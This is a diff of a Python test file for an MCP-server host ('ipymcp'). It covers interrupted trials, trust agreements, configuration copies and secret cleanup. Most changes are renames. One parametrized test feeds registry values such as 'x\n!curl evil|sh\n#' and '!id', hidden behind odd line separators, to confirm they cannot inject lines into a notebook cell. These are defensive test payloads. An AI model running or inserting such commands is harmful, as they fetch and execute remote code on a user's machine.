@@ -1,11 +1,10 @@
-"""Servers that are added: what an interrupt, a failure or a change in between leaves behind."""
+"""Adding servers: the state after an interrupt, a failure or a change in between."""
 
 import asyncio
 import contextlib
 import json
 import os
 import sys
-import threading
 from collections.abc import Callable, Generator, Iterator, Mapping
 from concurrent.futures import wait
 from pathlib import Path
@@ -25,7 +24,7 @@ from ipymcp.runtime.host import Host
 from ipymcp.security.trust import Grant
 from ipymcp.security.untrusted import Actor, Conversation, acting
 from tests.environments import ROOT, server_command
-from tests.processes import wait_until_gone
+from tests.processes import wait_until, wait_until_gone
 from tests.registry import RegistryServer, registry_server
 from tests.unit.scripted_interface import ScriptedInterface
 
@@ -61,25 +60,18 @@ def defined(host: Host, values: Mapping[str, Any], keep: Any = "me", **options: 
 
 
 def children() -> list[psutil.Process]:
-    return [one for one in psutil.Process().children() if "sys.stdin.read" in " ".join(one.cmdline())]
-
-
-def until(condition: Callable[[], Any]) -> Any:
-    for _ in range(200):
-        if found := condition():
-            return found
-        threading.Event().wait(0.05)
-    raise TimeoutError
+    return [child for child in psutil.Process().children() if "sys.stdin.read" in " ".join(child.cmdline())]
 
 
 def test_an_interrupted_trial_leaves_no_process_and_no_permission(host: Host) -> None:
     addition = defined(host, SILENT)
     running = asyncio.run_coroutine_threadsafe(add(addition), host.loop.loop)
-    [process] = until(children)
-    assert [one.name for one in host.trials.sessions] == ["mine"]
+    wait_until(lambda: bool(children()))
+    [process] = children()
+    assert [session.name for session in host.trials.sessions] == ["mine"]
     running.cancel()
     wait([running])
-    until(lambda: not host.trials.sessions)
+    wait_until(lambda: not host.trials.sessions)
     wait_until_gone([process])
     assert own(host) == {}
 
@@ -87,7 +79,8 @@ def test_an_interrupted_trial_leaves_no_process_and_no_permission(host: Host) ->
 def test_a_trial_that_is_dropped_while_it_starts_leaves_no_process(host: Host) -> None:
     addition = defined(host, SILENT)
     running = asyncio.run_coroutine_threadsafe(addition.try_out(), host.loop.loop)
-    [process] = until(children)
+    wait_until(lambda: bool(children()))
+    [process] = children()
     host.loop.run(addition.drop())
     wait([running])
     wait_until_gone([process])
@@ -120,11 +113,11 @@ def test_a_save_that_is_interrupted_goes_on_to_its_end(host: Host) -> None:
     addition = defined(host, DEMO)
     with locked(Path(user_file()).parent):
         running = asyncio.run_coroutine_threadsafe(add(addition), host.loop.loop)
-        until(lambda: addition.session is not None and addition.session.client is not None)
+        wait_until(lambda: addition.session is not None and addition.session.client is not None)
         with pytest.raises(TimeoutError):
             running.result(0.3)
         running.cancel()
-    until(lambda: not host.trials.sessions)
+    wait_until(lambda: not host.trials.sessions)
     assert list(own(host)) == ["mine"]
     assert host.sessions["mine"].client is not None
 
@@ -143,14 +136,14 @@ def test_many_servers_are_saved_at_a_time(host: Host) -> None:
         additions = [await from_values(host, f"s{number}", DEMO, "me") for number in range(8)]
         async with asyncio.timeout(20):
             await asyncio.gather(
-                *(config_edits.save(one.definition, Grant(), host, replaces=False) for one in additions)
+                *(config_edits.save(each.definition, Grant(), host, replaces=False) for each in additions)
             )
 
     host.loop.run(save_all())
     assert len(own(host)) == 8
 
 
-def test_what_changed_after_the_answer_is_neither_tried_nor_written(host: Host) -> None:
+def test_a_script_that_changed_after_the_answer_is_neither_run_nor_written(host: Host) -> None:
     script = Path(host.folder, "server.py")
     script.write_text("pass")
     addition = defined(host, {"command": sys.executable, "args": ["server.py"]}, "project")
@@ -166,7 +159,7 @@ def test_what_changed_after_the_answer_is_neither_tried_nor_written(host: Host) 
 # Copies and edits
 
 
-def test_a_copy_of_what_was_not_agreed_to_may_not_run(host: Host) -> None:
+def test_a_copy_of_a_server_without_an_agreement_may_not_run(host: Host) -> None:
     projects(host, "theirs")
     config_edits.copy("theirs", "copied", host)
     assert not host.guard.trusts(host.discovery.read().definitions["copied"])
@@ -181,7 +174,7 @@ def test_a_copy_of_a_changed_entry_of_the_own_file_may_not_run(host: Host) -> No
     assert not host.guard.trusts(host.discovery.read().definitions["copied"])
 
 
-def test_an_unchanged_edit_of_a_projects_server_is_no_agreement(host: Host) -> None:
+def test_an_unchanged_edit_of_a_projects_server_is_not_an_agreement(host: Host) -> None:
     projects(host, "theirs", env={"TOKEN": "${secret:mine}"})
     shown = json.loads(config_edits.editable_text("theirs", host))
     config_edits.rewrite("theirs", shown, host)
@@ -212,18 +205,15 @@ def test_a_models_code_may_not_change_the_configuration(host: Host, edit: Callab
     assert own(host) == before
 
 
-def test_what_is_added_without_a_lasting_agreement_is_asked_about_in_another_kernel(host: Host) -> None:
-    one = defined(host, DEMO).definition
-    host.loop.run(config_edits.save(one, Grant(is_lasting=False), host, replaces=False))
-    assert host.guard.trusts(one)
-    other = Host(host.folder)
-    try:
-        assert not other.guard.trusts(one)
-    finally:
-        other.close()
+def test_a_server_added_without_a_lasting_agreement_needs_one_in_another_kernel(host: Host) -> None:
+    definition = defined(host, DEMO).definition
+    host.loop.run(config_edits.save(definition, Grant(is_lasting=False), host, replaces=False))
+    assert host.guard.trusts(definition)
+    with contextlib.closing(Host(host.folder)) as other:
+        assert not other.guard.trusts(definition)
 
 
-def test_an_unchanged_edit_of_a_projects_server_in_a_view_is_no_agreement(host: Host) -> None:
+def test_an_unchanged_edit_of_a_projects_server_in_a_view_is_not_an_agreement(host: Host) -> None:
     projects(host, "mine", env={"TOKEN": "${secret:own}"})
     with pytest.raises(TrustError, match="no one could be asked"):
         defined(host, {**DEMO, "env": {"TOKEN": "${secret:own}"}}, "project", replaces=True)
@@ -243,9 +233,9 @@ def test_a_server_is_removed_with_the_secrets_that_only_it_uses(host: Host) -> N
     config_edits.add("other", {**DEMO, "env": {"T": "${secret:mine-TOKEN}", "G": "${secret:gh}"}}, host, project=False)
     config_edits.update("mine", {"env.G": "${secret:gh}"}, host, project=False)
     assert config_edits.remove("mine", host, project=False).secrets == ("mine-API_KEY",)
-    assert [one.name for one in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]
+    assert [secret.name for secret in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]
     assert config_edits.remove("other", host, project=False).secrets == ()
-    assert [one.name for one in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]
+    assert [secret.name for secret in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]
 
 
 def test_a_secret_that_another_project_was_given_or_an_unreadable_file_may_use_is_not_removed(host: Host) -> None:
@@ -259,7 +249,7 @@ def test_a_secret_that_another_project_was_given_or_an_unreadable_file_may_use_i
     host.loop.run(host.guard.trust.revoke("theirs"))
     projects(host, "broken", args=5)
     assert config_edits.remove("mine", host, project=False).secrets == ()
-    assert [one.name for one in host.store.secrets.kept()] == ["mine-API_KEY"]
+    assert [secret.name for secret in host.store.secrets.kept()] == ["mine-API_KEY"]
 
 
 # Servers of the registry
@@ -300,7 +290,7 @@ def chosen(host: Host, keep: Any = "me", *, replaces: bool = False, **choice: An
 
 
 @pytest.mark.parametrize("value", ["x\n!curl evil|sh\n#", "x\x0c!id", "x\u2028!id", "x\x85!id"])
-def test_a_strangers_value_adds_no_line_to_a_cell(host: Host, registry: RegistryServer, value: str) -> None:
+def test_a_publishers_value_adds_no_line_to_a_cell(host: Host, registry: RegistryServer, value: str) -> None:
     listed(registry, packageArguments=[{"type": "positional", "value": value}])
     user(host)
     cell = chosen(host, "notebook").cell("mcp")
@@ -322,7 +312,7 @@ def test_a_default_that_is_accepted_stays_the_publishers_text(host: Host, regist
         assert env["FOLDER"] == "data/$${secret:gh}"
 
 
-def test_the_publishers_text_makes_no_variable_of_what_the_user_typed(host: Host, registry: RegistryServer) -> None:
+def test_the_publishers_text_cannot_turn_typed_text_into_a_variable(host: Host, registry: RegistryServer) -> None:
     host.store.secrets.set("gh", "a secret of mine")
     value = {"value": "{cur}{secret:gh}", "variables": {"cur": {"isRequired": True}}}
     listed(registry, environmentVariables=[{"name": "PRICE", **value}])
@@ -386,7 +376,7 @@ def test_the_publisher_is_named_before_a_secret_is_given(host: Host, registry: R
     assert trust.file == origin
 
 
-def test_in_the_notebooks_folder_the_question_points_out_what_decides_there(
+def test_the_question_names_the_files_of_the_notebooks_folder_that_decide(
     host: Host, registry: RegistryServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     npx = tmp_path / "bin" / "npx"
@@ -399,7 +389,7 @@ def test_in_the_notebooks_folder_the_question_points_out_what_decides_there(
     chosen(host, "notebook")
     [trust] = asked
     assert isinstance(trust, TrustQuestion)
-    assert any("node_modules, .npmrc and package.json there decide" in one for one in trust.candidates[0].dangers)
+    assert any("node_modules, .npmrc and package.json there decide" in line for line in trust.candidates[0].dangers)
 
 
 def test_a_secret_that_cannot_be_stored_leaves_no_other_one(host: Host, registry: RegistryServer) -> None:
@@ -411,7 +401,7 @@ def test_a_secret_that_cannot_be_stored_leaves_no_other_one(host: Host, registry
     assert host.store.secrets.kept() == []
 
 
-def test_an_interrupted_question_deletes_what_was_stored(host: Host, registry: RegistryServer) -> None:
+def test_an_interrupted_question_deletes_its_stored_secret(host: Host, registry: RegistryServer) -> None:
     listed(registry, environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
     host.questions.terminal = None
     with pytest.raises(TrustError):
